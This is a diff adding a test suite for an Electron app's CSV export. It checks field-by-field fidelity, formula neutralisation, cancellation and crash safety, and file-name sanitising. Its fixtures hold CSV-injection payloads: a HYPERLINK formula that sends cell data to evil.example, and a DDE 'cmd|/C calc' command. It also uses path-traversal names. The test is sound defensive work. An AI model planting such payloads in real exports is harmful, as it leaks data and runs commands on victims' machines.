@@ -1,0 +1,311 @@
+/**
+ * CSV export (electron/main/export/run.ts) from a real cache synced from the sample API over HTTP:
+ * the files parse back (csv-parse) to the cached records field by field; views, columns, cancel,
+ * failures and a SIGKILL mid-export leave no file under the chosen name.
+ */
+import { spawn } from 'node:child_process';
+import { existsSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import type Database from 'better-sqlite3';
+import { parse } from 'csv-parse/sync';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import type { CsvOptions, ExportRequest } from '../../shared/contract.ts';
+import type { Contact, Order } from '../../shared/serviceRecords.ts';
+import { openCache } from '../../electron/main/cache/db.ts';
+import { queryContacts, queryOrders } from '../../electron/main/cache/queries.ts';
+import { runSync } from '../../electron/main/sync/engine.ts';
+import { createHttpPageSource } from '../../electron/main/sync/httpSource.ts';
+import { SAMPLE_ACCESS_TOKEN, SAMPLE_REFRESH_TOKEN, startSampleApi, type SampleApi } from '../../electron/main/sampleApi/server.ts';
+import { exportColumns, LABEL_SEPARATOR } from '../../electron/main/export/columns.ts';
+import { CSV_DELIMITERS, startsLikeFormula } from '../../electron/main/export/csv.ts';
+import { defaultExportFileName, runExport, validateExportPath, TEMP_SUFFIX } from '../../electron/main/export/run.ts';
+
+const CHILD = join(import.meta.dirname, 'fixtures', 'exportChild.ts');
+
+let dir: string;
+let db: Database.Database;
+let api: SampleApi;
+const hardIds: string[] = [];
+
+const HARD_PATCHES: Record<string, unknown>[] = [
+  { firstName: 'Zoë "Zee"', lastName: 'Ångström, Jr.', fullName: 'Zoë "Zee" Ångström, Jr.' },
+  { address1: '1 Main St\r\nBack door', address2: 'Line\nbreak', city: 'Tōkyō; 東京' },
+  { companyName: '=HYPERLINK("http://evil.example/?"&A1,"click")', email: '@SUM(1+1)' },
+  { phoneNo: '-2+3+cmd|\' /C calc\'!A0', extension: '+1', websiteUrl: '\t=1+1' },
+  { firstName: 'emoji 👍🏽', ContactLabels: [{ id: '990001', title: 'Comma, label' }, { id: '990002', title: 'Quote "label"' }] },
+  { lastName: '\r=cr', zip: '', isVerified: null },
+];
+
+beforeAll(async () => {
+  dir = mkdtempSync(join(tmpdir(), 'ld-export-'));
+  api = await startSampleApi({ contacts: 500, orders: 120, seed: 11 });
+  const ids = [...api.dataset.contactIds()];
+  HARD_PATCHES.forEach((patch, i) => {
+    const id = ids[i * 7 + 3] as string;
+    hardIds.push(id);
+    api.dataset.updateContact(id, patch);
+  });
+  const orderIds = [...api.dataset.orderIds()];
+  api.dataset.updateOrder(orderIds[2] as string, { meta: { account_id: 'acct "x"', note: 'a,b\nc' } });
+  db = openCache(join(dir, 'cache.sqlite'));
+  const runs = await runSync(db, createHttpPageSource({ baseUrl: api.baseUrl, tokens: { accessToken: SAMPLE_ACCESS_TOKEN, refreshToken: SAMPLE_REFRESH_TOKEN } }), {
+    resources: ['contacts', 'orders'],
+    pageSize: 200,
+  });
+  expect(runs.every((r) => r.outcome === 'succeeded')).toBe(true);
+});
+
+afterAll(async () => {
+  db?.close();
+  await api?.close();
+  rmSync(dir, { recursive: true, force: true });
+});
+
+function parseCsv(path: string, o: CsvOptions): string[][] {
+  const bytes = readFileSync(path);
+  expect(bytes[0] === 0xef && bytes[1] === 0xbb && bytes[2] === 0xbf).toBe(o.bom);
+  return parse(bytes.toString('utf8'), { delimiter: CSV_DELIMITERS[o.delimiter], bom: o.bom, record_delimiter: '\r\n' }) as string[][];
+}
+
+/** What a text cell reads as after parsing (formula rule of csv.ts). */
+const cell = (v: string | null | undefined, neutralize: boolean): string => {
+  const s = v ?? '';
+  return neutralize && startsLikeFormula(s) ? `'${s}` : s;
+};
+const bool = (v: boolean | null | undefined): string => (v === true ? 'true' : v === false ? 'false' : '');
+const text = (v: unknown): string | null => (v === null || v === undefined ? null : typeof v === 'string' ? v : JSON.stringify(v));
+
+/** The expected cells of a contact, straight from the cached record's JSON (independent of columns.ts SQL). */
+function contactCells(c: Contact, neutralize: boolean): Record<string, string> {
+  const out: Record<string, string> = {};
+  for (const key of ['id', 'firstName', 'lastName', 'fullName', 'companyName', 'address1', 'address2', 'city', 'state', 'zip', 'phoneNo', 'extension', 'websiteUrl', 'orgId', 'email', 'createdAt'] as const) {
+    out[key] = cell(c[key], neutralize);
+  }
+  out.isVerified = bool(c.isVerified);
+  out.isLiveMode = bool(c.isLiveMode);
+  out.labels = cell(c.ContactLabels.map((l) => l.title).join(LABEL_SEPARATOR), neutralize);
+  return out;
+}
+
+function rawRecords<T>(sql: string): T[] {
+  return (db.prepare(sql).pluck().all() as string[]).map((r) => JSON.parse(r) as T);
+}
+
+async function exportTo(name: string, request: ExportRequest): Promise<{ path: string; rows: number }> {
+  const path = join(dir, name);
+  const { rows } = await runExport(db, request, path, {});
+  return { path, rows };
+}
+
+describe('contacts export', () => {
+  for (const delimiter of ['comma', 'semicolon', 'tab'] as const) {
+    for (const bom of [false, true]) {
+      it(`equals the cached records field by field (${delimiter}, bom=${bom})`, async () => {
+        const options = { delimiter, bom, neutralizeFormulas: true };
+        const { path, rows } = await exportTo(`contacts-${delimiter}-${bom}.csv`, { kind: 'contacts', query: null, columns: null, options });
+        const records = rawRecords<Contact>('SELECT raw FROM contacts ORDER BY rowid');
+        expect(rows).toBe(records.length);
+        expect(rows).toBe(500);
+        const parsed = parseCsv(path, options);
+        const columns = exportColumns('contacts');
+        expect(parsed[0]).toEqual(columns.map((c) => c.header));
+        expect(parsed).toHaveLength(records.length + 1);
+        records.forEach((record, i) => {
+          const expected = contactCells(record, true);
+          expect(parsed[i + 1]).toEqual(columns.map((c) => expected[c.key]));
+        });
+        // The hard values made it through (and were neutralised where they start like a formula).
+        const byId = new Map(parsed.slice(1).map((r) => [r[0], r]));
+        expect(byId.get(hardIds[0])?.[1]).toBe('Zoë "Zee"');
+        expect(byId.get(hardIds[1])?.[5]).toBe('1 Main St\r\nBack door');
+        expect(byId.get(hardIds[2])?.[4]).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"click")`);
+        expect(byId.get(hardIds[4])?.[17]).toBe('Comma, label; Quote "label"');
+      });
+    }
+  }
+
+  it('keeps formula text as it is when neutralisation is off', async () => {
+    const options = { delimiter: 'comma' as const, bom: false, neutralizeFormulas: false };
+    const { path } = await exportTo('contacts-raw.csv', { kind: 'contacts', query: null, columns: ['id', 'companyName', 'phoneNo', 'websiteUrl'], options });
+    const parsed = parseCsv(path, options);
+    const byId = new Map(parsed.slice(1).map((r) => [r[0], r]));
+    expect(byId.get(hardIds[2])?.[1]).toBe('=HYPERLINK("http://evil.example/?"&A1,"click")');
+    expect(byId.get(hardIds[3])?.slice(2)).toEqual(['-2+3+cmd|\' /C calc\'!A0', '\t=1+1']);
+  });
+
+  it('exports exactly the rows of a view, in view order, with the chosen columns', async () => {
+    const options = { delimiter: 'comma' as const, bom: false, neutralizeFormulas: true };
+    const queries = [
+      { search: 'ohio' },
+      { sort: { column: 'city' as const, direction: 'desc' as const } },
+      { verified: ['yes' as const], sort: { column: 'name' as const, direction: 'asc' as const } },
+      { search: 'zoe', sort: { column: 'email' as const, direction: 'asc' as const } },
+    ];
+    for (const [i, query] of queries.entries()) {
+      const { path, rows } = await exportTo(`view-${i}.csv`, { kind: 'contacts', query, columns: ['email', 'id'], options });
+      const view = queryContacts(db, query, { offset: 0, limit: 1000 }).rows;
+      const parsed = parseCsv(path, options);
+      expect(parsed[0]).toEqual(['Email', 'Contact ID']);
+      expect(rows).toBe(view.length);
+      expect(parsed.slice(1)).toEqual(view.map((r) => [cell(r.email, true), r.id]));
+    }
+  });
+});
+
+describe('orders and recipients export', () => {
+  it('orders: one row per order, equal to the cached records', async () => {
+    const options = { delimiter: 'semicolon' as const, bom: true, neutralizeFormulas: true };
+    const { path, rows } = await exportTo('orders.csv', { kind: 'orders', query: null, columns: null, options });
+    const records = rawRecords<Order>('SELECT raw FROM orders ORDER BY rowid');
+    expect(rows).toBe(records.length);
+    const parsed = parseCsv(path, options);
+    const keys = exportColumns('orders').map((c) => c.key);
+    records.forEach((o, i) => {
+      const row = Object.fromEntries(keys.map((k, j) => [k, parsed[i + 1]?.[j]]));
+      expect(row.id).toBe(o.id);
+      expect(row.status).toBe(String(o.status));
+      expect(row.isLiveMode).toBe(bool(o.isLiveMode));
+      expect(row.campaignName).toBe(cell(o.campaign.name, true));
+      expect(row.campaignType).toBe(cell(o.campaign.campaignType, true));
+      expect(row.deliveryDate).toBe(cell(o.campaign.deliveryDate, true));
+      expect(row.productName).toBe(cell(o.product.name, true));
+      expect(row.paperSize).toBe(cell(o.product.paperSize, true));
+      expect(row.templateTitle).toBe(cell(o.template.title, true));
+      expect(row.templateCreatorName).toBe(cell(o.template.creator.fullName, true));
+      expect(row.recipients).toBe(String(o.contacts.length));
+      expect(row.delivered).toBe(String(o.contacts.filter((c) => c.isDelivered).length));
+      expect(JSON.parse(row.meta as string)).toEqual(o.meta);
+    });
+    expect(parsed.some((r) => r.includes('{"account_id":"acct \\"x\\"","note":"a,b\\nc"}'))).toBe(true);
+  });
+
+  it('recipients: one row per order recipient, in order-view order', async () => {
+    const options = { delimiter: 'tab' as const, bom: false, neutralizeFormulas: true };
+    const query = { sort: { column: 'campaign' as const, direction: 'asc' as const } };
+    const { path, rows } = await exportTo('recipients.csv', { kind: 'recipients', query, columns: null, options });
+    const viewOrder = queryOrders(db, query, { offset: 0, limit: 1000 }).rows.map((r) => r.id);
+    const byId = new Map(rawRecords<Order>('SELECT raw FROM orders').map((o) => [o.id, o]));
+    const expected = viewOrder.flatMap((id) => {
+      const o = byId.get(id) as Order;
+      return o.contacts.map((r) => [
+        o.id, cell(o.campaign.name, true), r.id, r.contact.id, cell(r.contact.firstName, true), cell(r.contact.lastName, true), cell(r.contact.fullName, true),
+        cell(r.contact.companyName, true), cell(r.contact.email, true), cell(r.contact.phoneNo, true), cell(r.contact.address1, true), cell(r.contact.address2, true),
+        cell(r.contact.city, true), cell(r.contact.zip, true), cell(r.contact.websiteUrl, true), cell(text(r.trackingCode), true), bool(r.isDelivered), cell(text(r.status), true),
+      ]);
+    });
+    const parsed = parseCsv(path, options);
+    expect(parsed[0]).toEqual(exportColumns('recipients').map((c) => c.header));
+    expect(rows).toBe(expected.length);
+    expect(parsed.slice(1)).toEqual(expected);
+  });
+});
+
+describe('failures and cancel leave no file', () => {
+  const request = (columns: string[] | null = null): ExportRequest => ({ kind: 'contacts', query: null, columns, options: { delimiter: 'comma', bom: false, neutralizeFormulas: true } });
+  const leftovers = (folder: string) => readdirSync(folder).filter((n) => n.endsWith(TEMP_SUFFIX));
+
+  it('a cancelled export rejects with CANCELLED and leaves neither the file nor a temp file', async () => {
+    const folder = join(dir, 'cancel');
+    mkdirSync(folder);
+    const target = join(folder, 'out.csv');
+    const abort = new AbortController();
+    const progress: number[] = [];
+    await expect(
+      runExport(db, request(), target, {
+        signal: abort.signal,
+        onProgress: (p) => {
+          progress.push(p.rowsDone);
+          abort.abort();
+        },
+      }),
+    ).rejects.toMatchObject({ code: 'CANCELLED' });
+    expect(progress[0]).toBe(0);
+    expect(existsSync(target)).toBe(false);
+    expect(readdirSync(folder)).toEqual([]);
+  });
+
+  it('a failed export leaves an existing file unchanged', async () => {
+    const folder = join(dir, 'keep');
+    mkdirSync(folder);
+    const target = join(folder, 'out.csv');
+    writeFileSync(target, 'old contents');
+    const abort = new AbortController();
+    abort.abort();
+    await expect(runExport(db, request(), target, { signal: abort.signal })).rejects.toMatchObject({ code: 'CANCELLED' });
+    await expect(runExport(db, request(['id', 'nope']), target, {})).rejects.toMatchObject({ code: 'VALIDATION', message: expect.stringContaining('Unknown column "nope"') });
+    expect(readFileSync(target, 'utf8')).toBe('old contents');
+    expect(leftovers(folder)).toEqual([]);
+    // And a successful one replaces it.
+    const { rows } = await runExport(db, request(['id']), target, {});
+    expect(readFileSync(target, 'utf8').split('\r\n')).toHaveLength(rows + 2);
+  });
+
+  it('validates the target path', () => {
+    expect(() => validateExportPath('relative.csv')).toThrow(/not absolute/);
+    expect(() => validateExportPath(join(dir, 'missing', 'x.csv'))).toThrow(/does not exist/);
+    expect(() => validateExportPath(dir)).toThrow(/is a folder/);
+    expect(validateExportPath(join(dir, 'a', '..', 'ok.csv'))).toBe(join(dir, 'ok.csv'));
+  });
+
+  it('accepts the worker call form and rejects malformed requests', async () => {
+    const seen: number[] = [];
+    const { rows } = await runExport(db, request(['id']), join(dir, 'worker-form.csv'), (p) => seen.push(p.rowsDone));
+    expect(seen.at(-1)).toBe(rows);
+    await expect(runExport(db, { kind: 'people' }, join(dir, 'bad.csv'))).rejects.toMatchObject({ code: 'VALIDATION' });
+    expect(existsSync(join(dir, 'bad.csv'))).toBe(false);
+  });
+
+  it('a process killed mid-export leaves no file under the target name', async () => {
+    const folder = join(dir, 'killed');
+    mkdirSync(folder);
+    const cache = join(folder, 'big.sqlite');
+    const target = join(folder, 'contacts.csv');
+    const fill = spawn(process.execPath, [CHILD, 'fill', cache, '200000'], { stdio: ['ignore', 'pipe', 'inherit'] });
+    expect(await new Promise((r) => fill.on('exit', r))).toBe(0);
+
+    const child = spawn(process.execPath, [CHILD, 'export', cache, target], { stdio: ['ignore', 'pipe', 'inherit'] });
+    let killedAt = -1;
+    await new Promise<void>((resolve) => {
+      let buffer = '';
+      child.stdout.on('data', (chunk: Buffer) => {
+        buffer += chunk.toString();
+        const m = /progress (\d+) (\d+)/.exec(buffer.split('\n').filter((l) => /^progress [1-9]/.test(l)).at(0) ?? '');
+        if (m && killedAt < 0) {
+          killedAt = Number(m[1]);
+          child.kill('SIGKILL');
+        }
+      });
+      child.on('exit', () => resolve());
+    });
+    expect(killedAt).toBeGreaterThan(0);
+    expect(killedAt).toBeLessThan(200000);
+    expect(child.signalCode).toBe('SIGKILL');
+    expect(existsSync(target)).toBe(false);
+    // Only the dead process's temp file may remain; the next export into the folder removes it.
+    expect(leftovers(folder).length).toBeLessThanOrEqual(1);
+    const small = openCache(join(folder, 'big.sqlite'), { skipCheck: true });
+    try {
+      await runExport(small, request(['id']), join(folder, 'other.csv'), {});
+    } finally {
+      small.close();
+    }
+    expect(leftovers(folder)).toEqual([]);
+    expect(existsSync(target)).toBe(false);
+  });
+});
+
+describe('defaultExportFileName', () => {
+  it('makes a safe name with the profile and the local date', () => {
+    const day = new Date(2026, 0, 5, 23, 30);
+    expect(defaultExportFileName('Acme Production', 'contacts', day)).toBe('letterdesk-acme-production-contacts-2026-01-05.csv');
+    expect(defaultExportFileName('../../etc/passwd', 'orders', day)).toBe('letterdesk-etc-passwd-orders-2026-01-05.csv');
+    expect(defaultExportFileName('C:\\Windows\\sys32', 'recipients', day)).toBe('letterdesk-c-windows-sys32-recipients-2026-01-05.csv');
+    expect(defaultExportFileName('Zoë Ångström', 'contacts', day)).toBe('letterdesk-zoe-angstrom-contacts-2026-01-05.csv');
+    expect(defaultExportFileName('東京 チーム', 'contacts', day)).toBe('letterdesk-東京-チーム-contacts-2026-01-05.csv');
+    expect(defaultExportFileName('...', 'contacts', day)).toBe('letterdesk-profile-contacts-2026-01-05.csv');
+    const long = defaultExportFileName('x'.repeat(500), 'contacts', day);
+    expect(long.length).toBeLessThan(80);
+    for (const name of ['a/b', 'a\\b', 'a:b', 'a\0b', 'CON', 'a*b?"<>|']) expect(defaultExportFileName(name, 'contacts', day)).toMatch(/^letterdesk-[\p{L}\p{N}-]+-contacts-2026-01-05\.csv$/u);
+  });
+});
